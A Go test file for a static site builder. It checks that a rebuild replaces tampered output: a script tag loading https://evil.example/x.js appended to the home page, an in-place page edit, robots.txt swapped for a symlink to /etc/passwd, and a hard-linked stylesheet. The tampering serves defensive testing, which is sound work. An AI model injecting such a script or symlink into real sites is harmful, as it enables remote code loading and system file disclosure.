package build

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/signpost-kb/signpost/internal/testsite"
)

// TestRebuildReplacesTamperedOutput tampers with a built site as an
// attacker or a careless hand would (a script appended to the home page,
// a page edited in place as sed -i does, robots.txt replaced by a symbolic
// link to /etc/passwd, a stylesheet given a second name outside the
// folder) and builds again: the output is what a clean build makes, file
// for file, and the build counts the files it had to write again.
func TestRebuildReplacesTamperedOutput(t *testing.T) {
	dir := testsite.FromFile(t, "testdata/sites/site.txtar")
	clean, _ := mustBuild(t, dir, Options{})
	want := testsite.Tree(t, clean)

	out := filepath.Join(t.TempDir(), "public")
	mustBuild(t, dir, Options{Out: out})
	home := filepath.Join(out, "index.html")
	f, err := os.OpenFile(home, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(`<script src="https://evil.example/x.js"></script>`)
	f.Close()
	page := filepath.Join(out, "articles/index.html")
	data, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	// sed -i: a new file renamed over the old one, the same size.
	edited := strings.Replace(string(data), "Articles", "Articlez", 1)
	if err := os.WriteFile(page+".sed", []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(page+".sed", page); err != nil {
		t.Fatal(err)
	}
	robots := filepath.Join(out, "robots.txt")
	os.Remove(robots)
	if err := os.Symlink("/etc/passwd", robots); err != nil {
		t.Fatal(err)
	}
	var css string
	for name := range want {
		if strings.HasSuffix(name, ".css") {
			css = name
		}
	}
	if err := os.Link(filepath.Join(out, css), filepath.Join(t.TempDir(), "elsewhere.css")); err != nil {
		t.Fatal(err)
	}

	_, res := mustBuild(t, dir, Options{Out: out})
	if d := testsite.Diff(want, testsite.Tree(t, out)); d != "" {
		t.Errorf("the rebuild kept tampered files:\n%s", d)
	}
	if info, err := os.Lstat(robots); err != nil || !info.Mode().IsRegular() {
		t.Errorf("robots.txt is not a regular file: %v", err)
	}
	if res.Written != 4 {
		t.Errorf("the rebuild wrote %d files, want 4 (the tampered ones)", res.Written)
	}
}
